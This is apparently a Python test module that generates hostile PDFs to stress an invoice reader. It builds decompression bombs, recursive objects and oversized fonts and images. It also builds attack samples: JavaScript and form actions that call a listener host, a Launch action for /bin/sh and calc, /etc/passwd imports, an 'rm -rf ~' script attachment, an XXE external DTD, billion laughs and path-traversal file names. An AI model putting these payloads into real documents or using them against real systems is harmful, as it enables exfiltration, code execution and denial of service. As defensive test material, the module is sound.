"""PDFs whose skeleton is right and whose pages, fonts, pictures and attachments are not."""

import zlib
from collections.abc import Iterator

from tests.hostile.bytes_of import deflated_zeros, lzw_zeros, one_page, pdf, stream, text
from tests.unit.reading.documents import CII, ENVELOPE, INVOICE_LINES

Files = Iterator[tuple[str, bytes]]
WORDS = text(*INVOICE_LINES)
PICTURE = b"/Type/XObject/Subtype/Image/ColorSpace/DeviceGray/BitsPerComponent 8"
SHOW = b"q 500 0 0 700 40 40 cm /P Do Q "


def bombs() -> Files:
    yield "flate of 128 MiB", one_page(deflated_zeros(128), filters=b"/Filter/FlateDecode")
    twice = zlib.compress(deflated_zeros(128), 9)
    yield "flate of flate of 128 MiB", one_page(twice, filters=b"/Filter[/FlateDecode/FlateDecode]")
    yield "lzw of 59 MB", one_page(lzw_zeros(1), filters=b"/Filter/LZWDecode")
    runs = zlib.compress(b"\x81\x00" * 500_000, 9)
    yield "run lengths of 64 MB", one_page(runs, filters=b"/Filter[/FlateDecode/RunLengthDecode]")
    yield "2000 filters", one_page(b"00>", filters=b"/Filter[" + b"/ASCIIHexDecode" * 2000 + b"]")
    predictor = b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2147483647/Colors 99/BitsPerComponent 16>>"
    yield "predictor of 2 GB to the line", one_page(deflated_zeros(1), filters=predictor)
    for name, filters, data in (
        ("flate", b"/Filter/FlateDecode", deflated_zeros(900)),
        ("jpeg", b"/Filter/DCTDecode", b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03"),
        ("jpeg 2000", b"/Filter/JPXDecode", b"\x00\x00\x00\x0cjP  \r\n\x87\n" + b"\xff" * 500),
        ("jbig2", b"/Filter/JBIG2Decode", b"\x00\x00\x00\x00\x30\x00\x01\x00\x00\x00\x13" + b"\xff" * 50),
        ("fax", b"/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 30000/Rows 30000>>", bytes(5000)),
        ("nothing", b"", b""),
    ):
        picture = stream(data, PICTURE + b"/Width 30000/Height 30000" + filters)
        yield f"picture of 900 megapixels: {name}", _pictured(picture)
    flat = stream(deflated_zeros(90), PICTURE + b"/Width 9700/Height 9700/Filter/FlateDecode")
    yield "picture of 94 megapixels", _pictured(flat)
    yield "picture of 94 megapixels 30 times", _pictured(flat, SHOW * 30)
    yield (
        "picture of one pixel in 1 GiB",
        _pictured(stream(deflated_zeros(1024), PICTURE + b"/Width 1/Height 1/Filter/FlateDecode")),
    )
    inline = b"BI /W 60000 /H 60000 /BPC 8 /CS /G /F /Fl ID " + deflated_zeros(50) + b" EI "
    yield "inline picture of 3.6 gigapixels", one_page(b"q 500 0 0 700 40 40 cm " + inline + b"Q")


def _pictured(picture: bytes, content: bytes = SHOW) -> bytes:
    return one_page(content, resources=b"/XObject<</P 6 0 R>>", more=[picture])


def loops() -> Files:
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 999 999]/Resources<</XObject<</P %d 0 R>>/Font<</F 5 0 R>>>>"
    yield "form that draws itself", _pictured(stream(b"/P Do ", form % 6))
    mask = stream(b"\0", PICTURE + b"/Width 1/Height 1/SMask 6 0 R")
    yield "picture that is its own mask", _pictured(mask)
    pattern = stream(
        b"/Pattern cs /Q scn 0 0 9 9 re f ",
        b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep 0.0001/YStep 0.0001"
        b"/Resources<</Pattern<</Q 6 0 R>>>>",
    )
    yield (
        "pattern that paints itself",
        one_page(b"/Pattern cs /Q scn 0 0 595 842 re f", resources=b"/Pattern<</Q 6 0 R>>", more=[pattern]),
    )
    function = b"<</FunctionType 3/Domain[0 1]/Functions[6 0 R 6 0 R]/Bounds[0.5]/Encode[0 1 0 1]>>"
    shading = b"<</ShadingType 2/ColorSpace/DeviceGray/Coords[0 0 9 9]/Function 6 0 R>>"
    yield "function that calls itself", one_page(b"/S sh", resources=b"/Shading<</S 7 0 R>>", more=[function, shading])
    colours = b"[/Indexed 6 0 R 255 <00>]"
    yield (
        "colour space that is based on itself",
        one_page(b"/C cs 1 sc 0 0 9 9 re f", resources=b"/ColorSpace<</C 6 0 R>>", more=[colours]),
    )
    letters = (
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 65/LastChar 65/Widths[9]"
        b"/Encoding<</Differences[65/A]>>/CharProcs<</A 7 0 R>>/Resources<</Font<</F 6 0 R>>>>>>"
    )
    yield (
        "font whose letter writes itself",
        one_page(
            b"BT /F 9 Tf (AAAA) Tj ET", resources=b"/Font<</F 6 0 R>>", more=[letters, stream(b"BT /F 9 Tf (A) Tj ET")]
        ),
    )


def endless() -> Files:
    """What would keep a reader busy for years: its time is up first."""
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 999 999]/Resources<</XObject<</P %d 0 R>>/Font<</F 5 0 R>>>>"
    forms = [stream(b"/P Do " * 10, form % (n + 1)) for n in range(6, 16)]
    yield (
        "forms of ten to the tenth",
        one_page(b"/P Do", resources=b"/XObject<</P 6 0 R>>", more=[*forms, stream(WORDS, form % 5)]),
    )
    tiny = stream(
        b"0 0 1 1 re f ", b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.001/YStep 0.001/Resources<<>>"
    )
    yield (
        "pattern of 10^11 tiles",
        one_page(b"/Pattern cs /Q scn 0 0 595 842 re f", resources=b"/Pattern<</Q 6 0 R>>", more=[tiny]),
    )
    yield "curve of 400000 points", one_page(b"0 0 m " + b"9 9 500 3 77 800 c " * 133_000 + b"S")


def fonts() -> Files:
    tables = (
        b"\x00\x01\x00\x00\xff\xff\x00\x00\x00\x00\x00\x00"
        + b"glyf\x00\x00\x00\x00\xff\xff\xff\xf0\xff\xff\xff\xff" * 999
    )
    for name, key, program in (
        ("tables beyond the file", b"/FontFile2", tables),
        ("truetype of zeros", b"/FontFile2", bytes(100_000)),
        ("cff of garbage", b"/FontFile3", b"\x01\x00\x04\x04" + b"\xff" * 50_000),
        ("type 1 of garbage", b"/FontFile", b"%!PS-AdobeFont-1.0\n" + b"{" * 100_000),
        ("program of 900 MiB", b"/FontFile2", b""),
    ):
        more = stream(program, b"/Subtype/Type1C")
        if not program:
            more = stream(deflated_zeros(900), b"/Filter/FlateDecode")
        yield (
            f"font with {name}",
            _lettered(
                b"/Subtype/TrueType/FontDescriptor 7 0 R", b"<</Type/FontDescriptor/Flags 4" + key + b" 8 0 R>>", more
            ),
        )
    widths = b"/Subtype/Type1/FirstChar -9/LastChar 2147483647/Widths[" + b"1e30 -5 " * 100_000 + b"]"
    yield "font with widths beyond measure", _lettered(widths)
    differences = b"/Subtype/Type1/Encoding<</Differences[0" + b"/Oacute" * 300_000 + b"]>>"
    yield "font with 300000 differences", _lettered(differences)
    head = b"/CIDInit/ProcSet findresource begin 12 dict begin begincmap "
    head += b"1 begincodespacerange <0000><FFFFFFFF> endcodespacerange "
    for name, body in (
        ("a range of 4 thousand million", b"1 beginbfrange <00000000><FFFFFFFF><0041> endbfrange"),
        ("100000 ranges", b"beginbfrange " + b"<0000><FFFF><0041>" * 100_000 + b" endbfrange"),
        ("a letter of a megabyte", b"1 beginbfchar <41><" + b"0041" * 250_000 + b"> endbfchar"),
        ("itself", b"/Identity-H usecmap 8 0 R usecmap"),
    ):
        yield (
            f"map to unicode with {name}",
            _lettered(b"/Subtype/Type1/ToUnicode 7 0 R", stream(head + body + b" endcmap")),
        )
    yield "text of control characters", one_page(text(*["".join(map(chr, range(1, 32)))] * 30))
    yield "letters a million points high", one_page(text(*INVOICE_LINES, size=1_000_000))
    yield "letters of no height", one_page(text(*INVOICE_LINES, size=0))
    yield "letters on an endless matrix", one_page(b"1e30 1e30 1e30 1e30 1e30 1e30 cm " + WORDS)


def _lettered(font: bytes, *more: bytes) -> bytes:
    """A page whose font is object 6."""
    return one_page(WORDS, resources=b"/Font<</F 6 0 R>>", more=[b"<</Type/Font/BaseFont/X" + font + b">>", *more])


def crowds() -> Files:
    yield "300000 words", one_page(text(*["word " * 30] * 10_000, size=1.1))
    yield "one word of 300000 letters", one_page(text("w" * 300_000))
    yield "200000 rectangles", one_page(b"".join(b"%d %d 3 3 re f\n" % (n % 590, n % 840) for n in range(200_000)))
    yield "500000 saved states", one_page(b"q " * 500_000 + WORDS)
    yield "50000 nested marks", one_page(b"/A BDC " * 50_000 + WORDS)
    yield "20000 nested clips", one_page(b"q 0 0 590 840 re W n " * 20_000 + WORDS)
    yield "curve of 9000 points", one_page(b"0 0 m " + b"9 9 500 3 77 800 c " * 3_000 + b"S")
    yield "dashes without end", one_page(b"[0.00001 0.00001] 0 d 1 w 0 0 m 590 840 l S " * 50)
    note = b"<</Type/Annot/Subtype/FreeText/Rect[0 0 99 99]/Contents(x)/DA(/F 9 Tf)>>"
    yield (
        "20000 annotations",
        one_page(WORDS, page=b"/MediaBox[0 0 595 842]/Annots[" + b"6 0 R " * 20_000 + b"]", more=[note]),
    )
    dot = stream(b"\x80", PICTURE + b"/Width 1/Height 1")
    yield "500 pictures", _pictured(dot, SHOW * 500)
    yield "three pages of drawings", _many_pages(b"".join(b"%d %d 9 9 re f " % (n % 590, n % 840) for n in range(5000)))
    bad = "\u202eDE89 3704\u202c".encode("utf-16-be").hex().encode()
    yield "actual text from right to left", one_page(b"/Span <</ActualText <FEFF" + bad + b">>> BDC " + WORDS + b"EMC")


def _many_pages(content: bytes) -> bytes:
    kids = b" ".join(b"%d 0 R" % n for n in range(4, 7))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 3 0 R>>"
    return pdf(
        [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[" + kids + b"]/Count 3>>", stream(content), *[page] * 3]
    )


def actions(listener: str) -> Files:
    """What a viewer would run, send or fetch."""
    url = listener.encode()
    for name, action in {
        "javascript": b"/S/JavaScript/JS(app.launchURL\\('" + url + b"/js'\\); while\\(1\\);)",
        "launch": b"/S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>",
        "uri": b"/S/URI/URI(" + url + b"/uri)",
        "remote document": b"/S/GoToR/F<</FS/URL/F(" + url + b"/remote.pdf)>>/D[0/Fit]",
        "submit form": b"/S/SubmitForm/F<</FS/URL/F(" + url + b"/submit)>>",
        "import data": b"/S/ImportData/F(/etc/passwd)",
        "itself next": b"/S/URI/URI(x)/Next 6 0 R",
    }.items():
        yield (
            f"action: {name}",
            one_page(WORDS, catalogue=b"/OpenAction 6 0 R", more=[b"<</Type/Action" + action + b">>"]),
        )
    away = b"/F<</FS/URL/F(" + url + b"/stream)>>/Filter/FlateDecode"
    yield "content kept elsewhere", one_page(b"", filters=away)
    yield "content kept in a file", one_page(b"", filters=b"/F(/etc/passwd)")
    alternate = stream(b"", PICTURE + b"/Width 9/Height 9/F<</FS/URL/F(" + url + b"/picture)>>")
    yield "picture kept elsewhere", _pictured(alternate)
    opi = stream(b"", PICTURE + b"/Width 9/Height 9/OPI<</2.0<</F(" + url + b"/opi)>>>>")
    yield "picture by reference", _pictured(opi)
    form = stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><x href='" + url + b"/xfa'/></xdp:xdp>")
    yield (
        "xfa form",
        one_page(
            WORDS,
            catalogue=b"/AcroForm<</XFA 6 0 R/Fields[7 0 R]/NeedAppearances true>>",
            more=[form, b"<</Kids[7 0 R]/Parent 7 0 R/T(x)>>"],
        ),
    )


def attachments(listener: str) -> Files:
    laughs = b'<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]>'
    for name, data, entries in (
        ("a program", b"MZ" + bytes(5000), b""),
        ("a program for linux", b"\x7fELF\x02\x01\x01" + bytes(5000), b""),
        ("a shell script", b"#!/bin/sh\nrm -rf ~\n", b""),
        ("a web page with a script", b"<html><script>fetch('" + listener.encode() + b"')</script></html>", b""),
        ("two invoices in an envelope", ENVELOPE % (CII.split(b"?>", 1)[1] * 2), b""),
        ("800 MiB of zeros", deflated_zeros(800), b"/Filter/FlateDecode"),
        ("2 GiB of zeros", deflated_zeros(2048), b"/Filter/FlateDecode"),
        ("billion laughs", CII.replace(b"?>", b"?>" + laughs, 1).replace(b" 2026-0417 ", b"&b;"), b""),
        ("xxe", CII.replace(b"?>", b'?><!DOCTYPE x SYSTEM "' + listener.encode() + b'/att.dtd">', 1), b""),
        ("an e-invoice cut off", CII[:200], b""),
        ("an e-invoice and 200 MiB of spaces", b"", b"/Filter/FlateDecode"),
    ):
        body = data or _padded_invoice()
        yield f"attachment: {name}", _attached(b"[(x.xml)6 0 R]", stream(body, entries))
    for name, title in (
        ("nul bytes", b"(a\\000.xml)"),
        ("right to left", b"<FEFF202E006C006D0078002E006500780065>"),
        ("a path", b"(../../../../etc/passwd)"),
        ("a megabyte", b"(" + b"n" * 1_000_000 + b")"),
        ("no name", b"null"),
    ):
        yield f"attachment named with {name}", _attached(b"[" + title + b" 6 0 R]", stream(CII[:100]), title)
    yield "20000 attachments", _attached(b"[" + b"(x)6 0 R " * 20_000 + b"]", stream(CII))
    yield "attachment that is itself", _attached(b"[(x)6 0 R]", b"6 0 R")
    yield "attachment that is a number", _attached(b"[(x) 7]", b"7")
    names = b"<</Kids[6 0 R 6 0 R]/Limits[(a)(z)]>>"
    yield "names in a circle", one_page(WORDS, catalogue=b"/Names<</EmbeddedFiles 6 0 R>>", more=[names])
    tree = [b"<</Kids[" + b"%d 0 R " % (n + 1) * 10 + b"]>>" for n in range(6, 15)]
    yield (
        "names of ten to the ninth",
        one_page(WORDS, catalogue=b"/Names<</EmbeddedFiles 6 0 R>>", more=[*tree, b"<</Names[(x) null]>>"]),
    )
    yield "associated file that is the catalogue", one_page(WORDS, catalogue=b"/AF[1 0 R 1 0 R]")
    yield "associated files 100000 times", one_page(WORDS, catalogue=b"/AF[" + b"9 0 R " * 100_000 + b"]")
    yield "associated file that does not exist", one_page(WORDS, catalogue=b"/AF[99999999999999999999 0 R]")
    yield "associated files that are a number", one_page(WORDS, catalogue=b"/AF 7")


def _attached(names: bytes, data: bytes, title: bytes = b"(x.xml)") -> bytes:
    specification = b"<</Type/Filespec/F " + title + b"/UF " + title + b"/EF<</F 7 0 R>>>>"
    return one_page(WORDS, catalogue=b"/Names<</EmbeddedFiles<</Names" + names + b">>>>", more=[specification, data])


def _padded_invoice() -> bytes:
    packer = zlib.compressobj(9)
    block = b" " * (1 << 20)
    parts = [packer.compress(CII.replace(b"</rsm:CrossIndustryInvoice>", b""))]
    parts += [packer.compress(block) for _ in range(200)]
    return b"".join([*parts, packer.compress(b"</rsm:CrossIndustryInvoice>"), packer.flush()])
